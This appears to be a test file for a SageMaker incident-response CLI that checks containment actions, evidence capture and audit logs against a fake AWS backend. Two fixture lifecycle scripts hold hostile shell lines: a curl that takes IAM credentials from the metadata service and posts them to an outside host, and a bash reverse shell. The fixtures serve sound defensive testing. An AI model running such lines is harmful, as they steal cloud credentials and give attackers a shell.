@@ -1,0 +1,436 @@
+/**
+ * `sm-ir contain <action>` through the built binary against the wire-level fake: every action from a
+ * realistic starting state to its end state, with the evidence and the audit log it leaves.
+ */
+import { createHash } from 'node:crypto';
+import { readFileSync, readdirSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { ContainResultDocumentSchema, ManifestSchema } from '../../src/core/contain/documents.js';
+import { loadPlaybookFile } from '../../src/playbook/load.js';
+import { auditLog, contain, startWorld, writeCalls, type ContainWorld } from './contain-fake.js';
+
+// Each test spawns the binary a few times (about a second each, more on a busy machine).
+vi.setConfig({ testTimeout: 60_000 });
+
+let w: ContainWorld;
+beforeEach(async () => {
+  w = await startWorld();
+});
+afterEach(async () => {
+  expect(w.fake.handlerBugs).toEqual([]);
+  await w.fake.close();
+});
+
+interface Result {
+  schema: string;
+  plans: { action: string; steps: { operation: string; target: string; permission: string; state: string }[]; kept: { target: string; reason: string }[] }[];
+  results: { n: number; target: string; operation: string; outcome: string; requestId: string | null }[];
+}
+/** Run an action with --yes into the world's case directory; exit 0 expected, the JSON result returned. */
+async function apply(args: string[], caseDir = w.caseDir): Promise<Result & { stderr: string }> {
+  const r = await contain(w, [...args, '--yes', '--case', caseDir, '--output', 'json']);
+  expect(r.code, r.stderr).toBe(0);
+  const doc: unknown = JSON.parse(r.stdout);
+  // Every result is the documented model (`sm-ir schema sm-ir/contain-result@1`).
+  ContainResultDocumentSchema.parse(doc);
+  ManifestSchema.parse(JSON.parse(readFileSync(join(caseDir, 'manifest.json'), 'utf8')));
+  expectDeclaredPermissions(args[0]!, caseDir);
+  return { ...(doc as Result), stderr: r.stderr };
+}
+/**
+ * Every call the run made needs a permission the playbook declares for the action (what `sm-ir playbook
+ * containment` tells a responder to grant): a read missing there is an AccessDenied waiting to happen.
+ */
+function expectDeclaredPermissions(actionId: string, caseDir: string) {
+  const action = loadPlaybookFile('containment').actions.find((a) => a.id === actionId)!;
+  const declared = new Set([...action.calls, ...action.evidence].map((c) => c.permission));
+  const used = new Set(auditLog(caseDir).filter((e) => e.operation !== 'GetCallerIdentity').map((e) => `${e.service}:${e.operation}`));
+  expect([...used].filter((p) => !declared.has(p)), `undeclared permissions of ${actionId}`).toEqual([]);
+}
+const outcomes = (r: Result) => r.results.map((x) => `${x.operation} ${x.target}: ${x.outcome}`);
+/** The changes in the audit log (reads left out). */
+const changes = (caseDir = w.caseDir) => auditLog(caseDir).filter((e) => e.readOnly !== true).map((e) => `${e.operation}:${e.outcome}`);
+const evidenceFiles = (caseDir = w.caseDir) => readdirSync(join(caseDir, 'evidence'), { recursive: true }).map(String);
+
+describe('delete-endpoint', () => {
+  it('deletes the endpoint (InService -> Deleting -> gone) and leaves its config and models', async () => {
+    w.sm.seed.model('m1');
+    w.sm.seed.endpointConfig('cfg1', ['m1']);
+    w.sm.seed.endpoint('ep1', 'cfg1');
+    const r = await apply(['delete-endpoint', 'ep1']);
+    expect(outcomes(r)).toEqual(['DeleteEndpoint endpoint/ep1: ok']);
+    expect(w.sm.state.endpoints.has('ep1')).toBe(false);
+    expect([...w.sm.state.endpointConfigs.keys()]).toEqual(['cfg1']);
+    expect([...w.sm.state.models.keys()]).toEqual(['m1']);
+    // It waited for the endpoint to go: DescribeEndpoint saw Deleting, then ValidationException "Could not find".
+    expect(w.fake.stats.count({ operation: 'DescribeEndpoint' }, 'ValidationException')).toBeGreaterThanOrEqual(1);
+    expect(w.fake.stats.count({ operation: 'DescribeEndpoint' }, 'ok')).toBeGreaterThanOrEqual(2);
+  });
+
+  it('--with-config --with-models deletes what only it used and keeps a config and a model other endpoints use', async () => {
+    w.sm.seed.model('m-attacker');
+    w.sm.seed.model('m-common');
+    w.sm.seed.endpointConfig('cfg-attacker', ['m-attacker', 'm-common']);
+    w.sm.seed.endpointConfig('cfg-prod', ['m-common']);
+    w.sm.seed.endpointConfig('cfg-twin', ['m-attacker-2']);
+    w.sm.seed.model('m-attacker-2');
+    w.sm.seed.endpoint('ep-attacker', 'cfg-attacker');
+    w.sm.seed.endpoint('ep-prod', 'cfg-prod');
+    w.sm.seed.endpoint('ep-twin-a', 'cfg-twin');
+    w.sm.seed.endpoint('ep-twin-b', 'cfg-twin');
+
+    const r = await apply(['delete-endpoint', 'ep-attacker', 'ep-twin-a', '--with-config', '--with-models']);
+    expect(outcomes(r)).toEqual([
+      'DeleteEndpoint endpoint/ep-attacker: ok',
+      'DeleteEndpointConfig endpoint-config/cfg-attacker: ok',
+      'DeleteModel model/m-attacker: ok',
+      'DeleteEndpoint endpoint/ep-twin-a: ok',
+    ]);
+    expect(r.plans[0]?.kept).toEqual([
+      { target: 'model/m-common', reason: 'still used by endpoint ep-prod' },
+      { target: 'endpoint-config/cfg-twin', reason: 'still used by endpoint ep-twin-b' },
+      { target: 'model/m-attacker-2', reason: 'still used by endpoint ep-twin-b' },
+    ]);
+    expect(r.stderr).toContain('kept: model/m-common: still used by endpoint ep-prod');
+    expect([...w.sm.state.endpoints.keys()].sort()).toEqual(['ep-prod', 'ep-twin-b']);
+    expect([...w.sm.state.endpointConfigs.keys()].sort()).toEqual(['cfg-prod', 'cfg-twin']);
+    expect([...w.sm.state.models.keys()].sort()).toEqual(['m-attacker-2', 'm-common']);
+    // Evidence of every target and dependency, taken before the change.
+    const files = evidenceFiles();
+    for (const f of ['DescribeEndpoint-ep-attacker', 'ListTags-ep-attacker-tags', 'DescribeEndpointConfig-cfg-attacker', 'DescribeModel-m-attacker', 'DescribeModel-m-common', 'ListEndpoints-all']) {
+      expect(files.some((x) => x.includes(f)), f).toBe(true);
+    }
+  });
+
+  it('an endpoint still Creating is waited for, then deleted; one already gone is reported done', async () => {
+    // Creating lasts longer than the binary takes to start, so the run finds it still Creating.
+    await w.fake.close();
+    w = await startWorld(3000);
+    w.sm.seed.endpointConfig('cfg', ['m']);
+    w.sm.seed.endpoint('ep-new', 'cfg', 'Creating');
+    const r = await apply(['delete-endpoint', 'ep-new', 'ep-never-existed']);
+    expect(outcomes(r)).toEqual(['DeleteEndpoint endpoint/ep-new: ok', 'DeleteEndpoint endpoint/ep-never-existed: already-done']);
+    expect(w.sm.state.endpoints.size).toBe(0);
+    // Never sent while Creating, which AWS refuses.
+    expect(writeCalls(w)).toEqual(['DeleteEndpoint:ok']);
+    const evidence = evidenceFiles().find((f) => f.endsWith('DescribeEndpoint-ep-new.json'))!;
+    expect(JSON.parse(readFileSync(join(w.caseDir, 'evidence', evidence), 'utf8')).response.EndpointStatus).toBe('Creating');
+  });
+});
+
+describe('delete-endpoint-config and delete-model', () => {
+  it('delete an unused config and model; refuse (exit 1, nothing deleted) while an endpoint uses them', async () => {
+    w.sm.seed.model('m-old');
+    w.sm.seed.endpointConfig('cfg-old', ['m-old']);
+    w.sm.seed.model('m-live');
+    w.sm.seed.endpointConfig('cfg-live', ['m-live']);
+    w.sm.seed.endpoint('ep-live', 'cfg-live');
+
+    expect(outcomes(await apply(['delete-endpoint-config', 'cfg-old']))).toEqual(['DeleteEndpointConfig endpoint-config/cfg-old: ok']);
+    expect(outcomes(await apply(['delete-model', 'm-old'], `${w.caseDir}-model`))).toEqual(['DeleteModel model/m-old: ok']);
+    expect(w.sm.state.endpointConfigs.has('cfg-old')).toBe(false);
+    expect(w.sm.state.models.has('m-old')).toBe(false);
+
+    w.fake.stats.reset();
+    const cfg = await contain(w, ['delete-endpoint-config', 'cfg-live', '--yes', '--case', `${w.caseDir}-2`]);
+    expect(cfg.code).toBe(1);
+    expect(cfg.stderr).toContain('endpoint config cfg-live is in use by endpoint ep-live: not deleting it');
+    const model = await contain(w, ['delete-model', 'arn:aws:sagemaker:us-east-1:111122223333:model/m-live', '--yes', '--case', `${w.caseDir}-3`]);
+    expect(model.code).toBe(1);
+    expect(model.stderr).toContain('model m-live is in use by endpoint ep-live');
+    expect(writeCalls(w)).toEqual([]);
+    expect(w.sm.state.models.has('m-live')).toBe(true);
+  });
+});
+
+describe('delete-domain', () => {
+  const D = 'd-abc123def456';
+  function seedDomain() {
+    w.sm.seed.domain(D);
+    w.sm.seed.userProfile(D, 'alice');
+    w.sm.seed.userProfile(D, 'bob');
+    w.sm.seed.space(D, 'alice-private', 'alice');
+    w.sm.seed.space(D, 'team-shared');
+    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null });
+    w.sm.seed.app({ domainId: D, appType: 'KernelGateway', appName: 'datascience-1-0-ml-t3-medium', userProfileName: 'bob', spaceName: null });
+    w.sm.seed.app({ domainId: D, appType: 'JupyterLab', appName: 'default', userProfileName: null, spaceName: 'alice-private' });
+    // Still starting: DeleteApp answers ResourceInUse until it is InService, so the run waits for it.
+    w.sm.seed.app({ domainId: D, appType: 'CodeEditor', appName: 'default', userProfileName: null, spaceName: 'team-shared', status: 'Pending' });
+    w.sm.seed.app({ domainId: D, appType: 'KernelGateway', appName: 'crashed', userProfileName: 'bob', spaceName: null, status: 'Failed' });
+    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'old', userProfileName: 'bob', spaceName: null, status: 'Deleted' });
+  }
+
+  it('apps, then spaces and user profiles, then the domain; the home EFS is retained', async () => {
+    seedDomain();
+    const efs = [...w.sm.state.homeEfs][0];
+    // Two transient 500s on the way are retried with backoff, not reported.
+    w.fake.faults.serverError({ operation: 'DeleteSpace' }, 2);
+    const r = await apply(['delete-domain', D]);
+    expect(outcomes(r)).toEqual([
+      `DeleteApp app/${D}/alice/JupyterServer/default: ok`,
+      `DeleteApp app/${D}/bob/KernelGateway/datascience-1-0-ml-t3-medium: ok`,
+      `DeleteApp app/${D}/alice-private/JupyterLab/default: ok`,
+      `DeleteApp app/${D}/team-shared/CodeEditor/default: ok`,
+      `DeleteSpace space/${D}/alice-private: ok`,
+      `DeleteSpace space/${D}/team-shared: ok`,
+      `DeleteUserProfile user-profile/${D}/alice: ok`,
+      `DeleteUserProfile user-profile/${D}/bob: ok`,
+      `DeleteDomain domain/${D}: ok`,
+    ]);
+    expect(w.sm.state.domains.has(D)).toBe(false);
+    expect(w.sm.state.userProfiles.size + w.sm.state.spaces.size).toBe(0);
+    expect(w.sm.state.homeEfs.has(efs!)).toBe(true);
+    expect(auditLog(w.caseDir).find((e) => e.operation === 'DeleteDomain')?.parameters).toEqual({ DomainId: D, RetentionPolicy: { HomeEfsFileSystem: 'Retain' } });
+    expect(w.fake.stats.count({ operation: 'DeleteSpace' }, 'InternalFailure')).toBe(2);
+    // No call ever hit ResourceInUse: each stage waited for the one before it.
+    expect(w.fake.stats.count({}, 'ResourceInUse')).toBe(0);
+    const files = evidenceFiles();
+    for (const f of ['DescribeDomain', 'ListTags-' + D, 'ListApps', 'ListUserProfiles', 'ListSpaces', 'DescribeUserProfile-' + D + '-alice', 'DescribeUserProfile-' + D + '-bob', 'DescribeSpace-' + D + '-alice-private', 'DescribeSpace-' + D + '-team-shared']) {
+      expect(files.some((x) => x.includes(f)), f).toBe(true);
+    }
+  });
+
+  it('an app already being deleted is waited for, then the rest goes ahead', async () => {
+    await w.fake.close();
+    w = await startWorld(3000);
+    w.sm.seed.domain(D);
+    w.sm.seed.userProfile(D, 'alice');
+    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Deleting' });
+    const r = await apply(['delete-domain', D]);
+    expect(outcomes(r)).toEqual([`DeleteApp app/${D}/alice/JupyterServer/default: already-done`, `DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
+    expect(w.sm.state.domains.has(D)).toBe(false);
+    expect(writeCalls(w)).toEqual(['DeleteApp:ResourceInUse', 'DeleteUserProfile:ok', 'DeleteDomain:ok']);
+  });
+
+  it('--delete-home-efs deletes the home file system with the domain', async () => {
+    w.sm.seed.domain(D);
+    w.sm.seed.userProfile(D, 'alice');
+    const efs = [...w.sm.state.homeEfs][0];
+    const r = await apply(['delete-domain', `arn:aws:sagemaker:us-east-1:111122223333:domain/${D}`, '--delete-home-efs']);
+    expect(outcomes(r)).toEqual([`DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
+    expect(w.sm.state.homeEfs.has(efs!)).toBe(false);
+  });
+});
+
+describe('notebooks', () => {
+  it('disable-root-access on a running notebook: stop, wait Stopped, update, start again', async () => {
+    w.sm.seed.notebook('nb-run');
+    const r = await apply(['disable-root-access', 'nb-run']);
+    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-run: ok', 'UpdateNotebookInstance notebook/nb-run: ok', 'StartNotebookInstance notebook/nb-run: ok']);
+    expect(w.sm.state.notebooks.get('nb-run')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });
+    // The update was never sent while the notebook was still Stopping.
+    expect(w.fake.stats.count({ operation: 'UpdateNotebookInstance' })).toBe(1);
+  });
+
+  it('disable-root-access on a stopped notebook leaves it stopped; --no-restart leaves a running one stopped; already disabled is done', async () => {
+    w.sm.seed.notebook('nb-stopped', { status: 'Stopped' });
+    w.sm.seed.notebook('nb-run');
+    w.sm.seed.notebook('nb-safe', { rootAccess: 'Disabled' });
+    expect(outcomes(await apply(['disable-root-access', 'nb-stopped']))).toEqual(['UpdateNotebookInstance notebook/nb-stopped: ok']);
+    expect(w.sm.state.notebooks.get('nb-stopped')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
+    expect(outcomes(await apply(['disable-root-access', 'nb-run', '--no-restart'], `${w.caseDir}-2`))).toEqual([
+      'StopNotebookInstance notebook/nb-run: ok',
+      'UpdateNotebookInstance notebook/nb-run: ok',
+    ]);
+    expect(w.sm.state.notebooks.get('nb-run')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
+    w.fake.stats.reset();
+    expect(outcomes(await apply(['disable-root-access', 'nb-safe'], `${w.caseDir}-3`))).toEqual(['UpdateNotebookInstance notebook/nb-safe: already-done']);
+    expect(writeCalls(w)).toEqual([]);
+  });
+
+  it('stop-notebook: InService -> Stopped; a stopped one is already done', async () => {
+    w.sm.seed.notebook('nb1');
+    w.sm.seed.notebook('nb2', { status: 'Stopped' });
+    const r = await apply(['stop-notebook', 'nb1', 'nb2']);
+    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb1: ok', 'StopNotebookInstance notebook/nb2: already-done']);
+    expect(w.sm.state.notebooks.get('nb1')?.status).toBe('Stopped');
+    expect(changes()).toEqual(['StopNotebookInstance:ok', 'StopNotebookInstance:already-done']);
+  });
+
+  it('work someone else already started is waited for and reported done, not failed on the state', async () => {
+    // Transitions slower than the binary's start, so it finds them under way.
+    await w.fake.close();
+    w = await startWorld(3000);
+    w.sm.seed.notebook('nb-stopping', { status: 'Stopping' });
+    const r = await apply(['stop-notebook', 'nb-stopping']);
+    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-stopping: already-done']);
+    expect(w.sm.state.notebooks.get('nb-stopping')?.status).toBe('Stopped');
+    w.sm.seed.job('training', 'job-stopping', 'Stopping');
+    const job = await apply(['stop-job', 'job-stopping', '--job-type', 'training'], `${w.caseDir}-job`);
+    expect(outcomes(job)).toEqual(['StopTrainingJob training-job/job-stopping: already-done']);
+    expect(w.sm.state.jobs.get('training/job-stopping')?.status).toBe('Stopped');
+    // The calls were only safeguards, refused for the state; the runs waited instead of failing.
+    expect(writeCalls(w)).toEqual(['StopNotebookInstance:ValidationException', 'StopTrainingJob:ValidationException']);
+  });
+
+  it('delete-notebook stops it first; a notebook still starting (Pending) is waited for, stopped and deleted', async () => {
+    w.sm.seed.notebook('nb-run');
+    w.sm.seed.notebook('nb-starting', { status: 'Pending' });
+    const r = await apply(['delete-notebook', 'nb-run', 'nb-starting']);
+    expect(outcomes(r)).toEqual([
+      'StopNotebookInstance notebook/nb-run: ok',
+      'DeleteNotebookInstance notebook/nb-run: ok',
+      'StopNotebookInstance notebook/nb-starting: ok',
+      'DeleteNotebookInstance notebook/nb-starting: ok',
+    ]);
+    expect(w.sm.state.notebooks.size).toBe(0);
+    // No call was refused for a wrong state: each one waited for the state it needs.
+    expect(w.fake.stats.count({}, 'ValidationException')).toBe(w.fake.stats.count({ operation: 'DescribeNotebookInstance' }, 'ValidationException'));
+  });
+
+  it('a notebook and an app that fail while starting are not stopped or deleted first: the rest goes ahead', async () => {
+    await w.fake.close();
+    w = await startWorld(3000);
+    w.sm.seed.notebook('nb-doomed', { status: 'Pending', settlesTo: 'Failed' });
+    const r = await apply(['delete-notebook', 'nb-doomed']);
+    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-doomed: already-done', 'DeleteNotebookInstance notebook/nb-doomed: ok']);
+    expect(w.sm.state.notebooks.size).toBe(0);
+    const D = 'd-abc123def456';
+    w.sm.seed.domain(D);
+    w.sm.seed.userProfile(D, 'alice');
+    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Pending', settlesTo: 'Failed' });
+    const d = await apply(['delete-domain', D], `${w.caseDir}-domain`);
+    expect(outcomes(d)).toEqual([`DeleteApp app/${D}/alice/JupyterServer/default: already-done`, `DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
+    expect(w.sm.state.domains.size).toBe(0);
+  });
+
+  it('detach-lifecycle-config --delete: detaches, restarts, deletes the config no other notebook uses, keeps a shared one', async () => {
+    w.sm.seed.lifecycleConfig('lcc-evil', ['#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- https://203.0.113.45/c\n']);
+    w.sm.seed.lifecycleConfig('lcc-shared', ['#!/bin/bash\necho shared\n']);
+    w.sm.seed.notebook('nb-victim', { lifecycleConfigName: 'lcc-evil' });
+    w.sm.seed.notebook('nb-a', { lifecycleConfigName: 'lcc-shared', status: 'Stopped' });
+    w.sm.seed.notebook('nb-b', { lifecycleConfigName: 'lcc-shared', status: 'Stopped' });
+    const r = await apply(['detach-lifecycle-config', 'nb-victim', 'nb-a', '--delete']);
+    expect(outcomes(r)).toEqual([
+      'StopNotebookInstance notebook/nb-victim: ok',
+      'UpdateNotebookInstance notebook/nb-victim: ok',
+      'StartNotebookInstance notebook/nb-victim: ok',
+      'DeleteNotebookInstanceLifecycleConfig lifecycle-config/lcc-evil: ok',
+      'UpdateNotebookInstance notebook/nb-a: ok',
+    ]);
+    expect(r.plans[0]?.kept).toEqual([{ target: 'lifecycle-config/lcc-shared', reason: 'still used by notebook nb-b' }]);
+    expect(w.sm.state.notebooks.get('nb-victim')).toMatchObject({ status: 'InService', lifecycleConfigName: null });
+    expect(w.sm.state.notebooks.get('nb-a')).toMatchObject({ status: 'Stopped', lifecycleConfigName: null });
+    expect([...w.sm.state.lifecycleConfigs.keys()]).toEqual(['lcc-shared']);
+    // The deleted script is kept, decoded, in the evidence.
+    const script = evidenceFiles().find((f) => f.endsWith('lifecycle-lcc-evil-OnStart-1.sh'));
+    expect(readFileSync(join(w.caseDir, 'evidence', script!), 'utf8')).toContain('169.254.169.254/latest/meta-data/iam/security-credentials/');
+  });
+});
+
+describe('stop-job', () => {
+  it.each([
+    ['training', 'TrainingJob', 'xmrig-train'],
+    ['processing', 'ProcessingJob', 'feature-export-20261127'],
+    ['transform', 'TransformJob', 'fraud-rescore-20261127'],
+    ['tuning', 'HyperParameterTuningJob', 'bench-hpo'],
+  ] as const)('%s: InProgress -> Stopping -> Stopped; a finished one is already done', async (type, noun, name) => {
+    w.sm.seed.job(type, name);
+    w.sm.seed.job(type, 'finished-job', 'Completed');
+    const r = await apply(['stop-job', name, 'finished-job', '--job-type', type]);
+    expect(outcomes(r)).toEqual([`Stop${noun} ${type}-job/${name}: ok`, `Stop${noun} ${type}-job/finished-job: already-done`]);
+    expect(w.sm.state.jobs.get(`${type}/${name}`)?.status).toBe('Stopped');
+    expect(w.sm.state.jobs.get(`${type}/finished-job`)?.status).toBe('Completed');
+    expect(writeCalls(w)).toEqual([`Stop${noun}:ok`]);
+    expect(r.plans[0]?.steps[0]?.permission).toBe(`sagemaker:Stop${noun}`);
+    expect(evidenceFiles().some((f) => f.includes(`Describe${noun}-${name}`))).toBe(true);
+    expect(evidenceFiles().some((f) => f.includes(`ListTags-${name}-tags`))).toBe(true);
+  });
+});
+
+describe('IAM', () => {
+  it('quarantine-role attaches a deny-all inline policy; running it again is already done', async () => {
+    w.iam.seed.role('AmazonSageMaker-ExecutionRole-MlCi', { path: '/service-role/' });
+    const arn = 'arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole-MlCi';
+    expect(outcomes(await apply(['quarantine-role', arn]))).toEqual(['PutRolePolicy role/AmazonSageMaker-ExecutionRole-MlCi: ok']);
+    const doc = JSON.parse(w.iam.state.roles.get('AmazonSageMaker-ExecutionRole-MlCi')!.inline.get('sm-ir-quarantine')!) as { Statement: unknown[] };
+    expect(doc.Statement).toEqual([expect.objectContaining({ Effect: 'Deny', Action: '*', Resource: '*' })]);
+    expect(outcomes(await apply(['quarantine-role', 'AmazonSageMaker-ExecutionRole-MlCi']))).toEqual(['PutRolePolicy role/AmazonSageMaker-ExecutionRole-MlCi: already-done']);
+    expect(changes()).toEqual(['PutRolePolicy:ok', 'PutRolePolicy:already-done']);
+    // The second run's evidence holds the policy the first attached, decoded from IAM's URL encoding.
+    const second = evidenceFiles().find((f) => f.endsWith('GetRolePolicy-AmazonSageMaker-ExecutionRole-MlCi-sm-ir-quarantine.json'));
+    const ev = JSON.parse(readFileSync(join(w.caseDir, 'evidence', second!), 'utf8')) as { decodedPolicyDocuments: { Statement: { Effect: string }[] }[] };
+    expect(ev.decodedPolicyDocuments[0]?.Statement[0]?.Effect).toBe('Deny');
+  });
+
+  it('revoke-sessions denies every session issued before the run (aws:TokenIssueTime), as the IAM console does', async () => {
+    w.iam.seed.role('DataScientist');
+    const before = Date.now();
+    await apply(['revoke-sessions', 'DataScientist']);
+    const after = Date.now();
+    const doc = JSON.parse(w.iam.state.roles.get('DataScientist')!.inline.get('AWSRevokeOlderSessions')!) as {
+      Statement: { Effect: string; Action: unknown; Resource: unknown; Condition: { DateLessThan: { 'aws:TokenIssueTime': string } } }[];
+    };
+    const st = doc.Statement[0]!;
+    expect(st).toMatchObject({ Effect: 'Deny', Action: ['*'], Resource: ['*'] });
+    const issued = Date.parse(st.Condition.DateLessThan['aws:TokenIssueTime']);
+    expect(issued).toBeGreaterThanOrEqual(before - 1000);
+    expect(issued).toBeLessThanOrEqual(after);
+  });
+
+  it('refuses a service-linked role before changing anything', async () => {
+    w.iam.seed.role('AWSServiceRoleForAmazonSageMakerNotebooks', { path: '/aws-service-role/sagemaker.amazonaws.com/' });
+    const r = await contain(w, ['quarantine-role', 'AWSServiceRoleForAmazonSageMakerNotebooks', '--yes', '--case', w.caseDir]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('is a service-linked role');
+    expect(writeCalls(w)).toEqual([]);
+  });
+});
+
+describe('evidence and audit log', () => {
+  it('files 0600 in 0700 folders, SHA-256 sums that match, the caller, and one audit line per call the fake answered', async () => {
+    w.sm.seed.lifecycleConfig('ml-ci-bootstrap', ['#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n'], ['#!/bin/bash\necho created\n']);
+    w.sm.seed.notebook('ds-forecasting', { lifecycleConfigName: 'ml-ci-bootstrap' });
+    const started = Date.now();
+    await apply(['disable-root-access', 'ds-forecasting']);
+
+    const manifest = JSON.parse(readFileSync(join(w.caseDir, 'manifest.json'), 'utf8')) as {
+      schema: string;
+      caller: { account: string; arn: string; userId: string };
+      region: string;
+      runs: { run: string; actions: { action: string; targets: string[] }[] }[];
+      files: { file: string; sha256: string; bytes: number }[];
+    };
+    expect(manifest).toMatchObject({
+      schema: 'sm-ir/contain-manifest@1',
+      caller: { account: '111122223333', arn: 'arn:aws:iam::111122223333:user/responder', userId: 'AIDAEXAMPLERESPONDER' },
+      region: 'us-east-1',
+      runs: [{ actions: [{ action: 'disable-root-access', targets: ['ds-forecasting'] }] }],
+    });
+    expect(manifest.files.length).toBeGreaterThanOrEqual(6);
+    for (const f of manifest.files) {
+      const content = readFileSync(join(w.caseDir, f.file));
+      expect(createHash('sha256').update(content).digest('hex'), f.file).toBe(f.sha256);
+      expect(content.length).toBe(f.bytes);
+      expect(statSync(join(w.caseDir, f.file)).mode & 0o777, f.file).toBe(0o600);
+    }
+    for (const f of ['manifest.json', 'plan.json', 'audit.jsonl']) expect(statSync(join(w.caseDir, f)).mode & 0o777, f).toBe(0o600);
+    for (const d of ['evidence', join('evidence', manifest.runs[0]!.run)]) expect(statSync(join(w.caseDir, d)).mode & 0o777, d).toBe(0o700);
+
+    // What the notebook looked like before: root enabled, the lifecycle scripts decoded.
+    const listed = manifest.files.map((f) => f.file);
+    const described = listed.find((f) => f.endsWith('DescribeNotebookInstance-ds-forecasting.json'))!;
+    expect(JSON.parse(readFileSync(join(w.caseDir, described), 'utf8'))).toMatchObject({ operation: 'DescribeNotebookInstance', found: true, response: { RootAccess: 'Enabled', NotebookInstanceStatus: 'InService' } });
+    const tags = listed.find((f) => f.endsWith('ListTags-ds-forecasting-tags.json'))!;
+    expect(JSON.parse(readFileSync(join(w.caseDir, tags), 'utf8')).response.Tags).toEqual([{ Key: 'owner', Value: 'data-science' }]);
+    const onStart = listed.find((f) => f.endsWith('lifecycle-ml-ci-bootstrap-OnStart-1.sh'))!;
+    const onCreate = listed.find((f) => f.endsWith('lifecycle-ml-ci-bootstrap-OnCreate-1.sh'))!;
+    expect(readFileSync(join(w.caseDir, onStart), 'utf8')).toBe('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n');
+    expect(readFileSync(join(w.caseDir, onCreate), 'utf8')).toBe('#!/bin/bash\necho created\n');
+
+    // The audit log: every call the fake answered, in order, with the request id it answered with.
+    const audit = auditLog(w.caseDir);
+    expect(audit.map((e) => `${e.operation} ${e.requestId}`)).toEqual(w.fake.stats.calls.map((c) => `${c.operation} ${c.requestId}`));
+    for (const e of audit) {
+      expect(Date.parse(e.time)).toBeGreaterThanOrEqual(started - 1000);
+      expect(e).toMatchObject({ command: 'contain disable-root-access', region: 'us-east-1' });
+      expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
+    }
+    expect(audit[0]).toMatchObject({ service: 'sts', operation: 'GetCallerIdentity', outcome: 'ok', readOnly: true });
+    expect(audit.filter((e) => e.readOnly !== true).map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:ok', 'StartNotebookInstance:ok']);
+    expect(audit.find((e) => e.operation === 'UpdateNotebookInstance')).toMatchObject({ service: 'sagemaker', parameters: { NotebookInstanceName: 'ds-forecasting', RootAccess: 'Disabled' }, error: null });
+    // The waits are in it too: DescribeNotebookInstance polled until Stopped.
+    expect(audit.filter((e) => e.operation === 'DescribeNotebookInstance').length).toBeGreaterThanOrEqual(3);
+  });
+});
